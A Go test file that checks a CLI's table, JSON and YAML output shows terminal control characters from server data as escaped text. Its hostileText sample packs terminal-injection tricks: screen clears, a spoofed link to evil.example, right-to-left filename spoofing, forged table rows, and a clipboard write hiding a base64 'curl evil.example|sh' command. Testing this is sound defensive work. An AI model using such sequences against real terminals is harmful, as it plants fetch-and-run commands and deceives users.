package cli

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"
)

// hostileText is what a publisher can put in an application's name or description, or a chart in a
// failure reason: a screen clear, an OSC 52 clipboard write, an OSC 8 link, a carriage return that
// overwrites the line, a C1 CSI (U+009B), a right-to-left override, a raw 8-bit CSI byte, and a newline
// and tab that would forge a table row.
const hostileText = "web\x1b[2J\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\\rok \u009b31m \u202etxt.exe \x9b\nforged\trow"

// terminalControls are what must not reach a terminal from the server's data.
var terminalControls = []string{"\x1b", "\x07", "\r", "\u009b", "\u202e", "\x9b"}

func checkPrintable(t *testing.T, what, out string) {
	t.Helper()
	for _, c := range terminalControls {
		if strings.Contains(out, c) {
			t.Errorf("%s prints the control %q to the terminal: %q", what, c, out)
		}
	}
}

// TestTablesShowControlCharacters: a cell holding escape sequences is shown as text, on the row it
// belongs to; a newline or tab in it forges no row or column.
func TestTablesShowControlCharacters(t *testing.T) {
	var out bytes.Buffer
	if err := writeTable(&out, table{{"id", "name"}, {"1", hostileText}, {"2", "plain"}}); err != nil {
		t.Fatal(err)
	}
	checkPrintable(t, "a table", out.String())
	lines := strings.Split(strings.TrimRight(out.String(), "\n"), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[1], "1 ") || !strings.HasPrefix(lines[2], "2 ") {
		t.Errorf("a table of a header and two rows printed %d lines:\n%s", len(lines), out.String())
	}
	if !strings.Contains(lines[1], `web\x1b[2J`) || !strings.Contains(lines[1], `\u202etxt.exe`) || !strings.Contains(lines[1], `\nforged\trow`) {
		t.Errorf("the escapes are not shown as text: %q", lines[1])
	}
}

// TestJSONShowsControlCharacters: -o json keeps the document (the same values once parsed), with the
// characters a terminal acts on written as \u escapes.
func TestJSONShowsControlCharacters(t *testing.T) {
	doc, _ := json.Marshal(map[string]string{"name": hostileText})
	var out bytes.Buffer
	o := &options{env: Env{Stdout: &out}, output: "json"}
	if err := o.show(doc, nil); err != nil {
		t.Fatal(err)
	}
	checkPrintable(t, "-o json", out.String())
	var back map[string]string
	if err := json.Unmarshal(out.Bytes(), &back); err != nil {
		t.Fatalf("-o json is not JSON: %v\n%s", err, out.String())
	}
	if want := strings.ToValidUTF8(hostileText, "\ufffd"); back["name"] != want {
		t.Errorf("-o json changed the value: %q, want %q", back["name"], want)
	}
}

// TestPrintableKeeps: text without controls is printed unchanged, and a console keeps its newlines.
func TestPrintableKeeps(t *testing.T) {
	for _, s := range []string{"", "hello-web", "Grüße, 世界 ✓", "a\ufffdb"} {
		if got := printable(s, ""); got != s {
			t.Errorf("printable(%q) = %q, want it unchanged", s, got)
		}
	}
	if got := printable("boot\x1b[0m ok\nlogin: \r\n", "\n\t"); got != `boot\x1b[0m ok`+"\n"+`login: \r`+"\n" {
		t.Errorf("a console printed as %q", got)
	}
}

// TestYAMLShowsControlCharacters: -o yaml writes such a string double-quoted with escapes, and reads back
// as the same value.
func TestYAMLShowsControlCharacters(t *testing.T) {
	for _, s := range []string{hostileText, "a \u009b31m", "abc \u202etxt.exe"} {
		doc, _ := json.Marshal(map[string]string{"name": s})
		var out bytes.Buffer
		o := &options{env: Env{Stdout: &out}, output: "yaml"}
		if err := o.show(doc, nil); err != nil {
			t.Fatalf("-o yaml of %q: %v", s, err)
		}
		checkPrintable(t, "-o yaml", out.String())
		var back map[string]string
		if err := yaml.Unmarshal(out.Bytes(), &back); err != nil {
			t.Fatalf("-o yaml is not YAML: %v\n%s", err, out.String())
		}
		if want := strings.ToValidUTF8(s, "\ufffd"); back["name"] != want {
			t.Errorf("-o yaml changed the value: %q, want %q", back["name"], want)
		}
	}
}
